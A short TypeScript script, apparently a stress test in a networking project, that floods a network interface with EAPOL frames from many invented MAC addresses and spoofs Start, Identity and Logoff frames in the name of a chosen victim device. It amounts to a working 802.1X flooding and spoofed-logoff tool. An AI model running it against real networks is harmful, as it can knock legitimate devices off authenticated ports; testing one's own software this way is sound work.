/** A flood of EAPOL on one interface: `eapol-flood.ts INTERFACE VICTIM [DESTINATION PAUSE]`, from many strangers and in the name of a device. */

import { encodeEap } from '../../../src/net/eap.ts';
import { encodeEapol } from '../../../src/net/eapol.ts';
import { EtherType, encodeFrame } from '../../../src/net/ethernet.ts';
import { allocate } from '../../../src/sys/memory.ts';
import { MAX_FRAME, PacketSocket } from '../../../src/sys/packet.ts';

const VNET_HEADER = 10;
const socket = new PacketSocket(process.argv[2] ?? '');
const memory = allocate(MAX_FRAME);
const victim = process.argv[3] ?? '';
/** Between two bursts (ms): a flood that the kernel's queue holds shows what the program makes of it. */
const pauseMs = Number(process.argv[5] ?? 0);
const destination = process.argv[4] ?? '01:80:c2:00:00:03';

function send(source: string, payload: Uint8Array): void {
  const frame = encodeFrame({
    destination,
    source,
    tag: null,
    etherType: EtherType.eapol,
    payload,
  });
  memory.bytes.set(frame, VNET_HEADER);
  socket.send(memory, VNET_HEADER + frame.length);
}

const identity = (id: number) =>
  encodeEapol('packet', encodeEap({ code: 'response', id, type: 1, data: Buffer.from('anonymous') }));
let sent = 0;

/** A few hundred frames at a time, so that signals are heard. */
function burst(): void {
  for (let i = 0; i < (pauseMs > 0 ? 10 : 200); i++, sent++) {
    const stranger = `06:00:00:00:${[sent >> 8, sent].map((n) => (n & 255).toString(16).padStart(2, '0')).join(':')}`;
    send(stranger, encodeEapol('start'));
    send(stranger, identity(sent & 255));
    send(victim, encodeEapol(sent % 3 === 0 ? 'logoff' : 'start'));
    send(victim, identity(sent & 255));
  }
  if (pauseMs > 0) setTimeout(burst, pauseMs);
  else setImmediate(burst);
}

console.log('flooding');
burst();
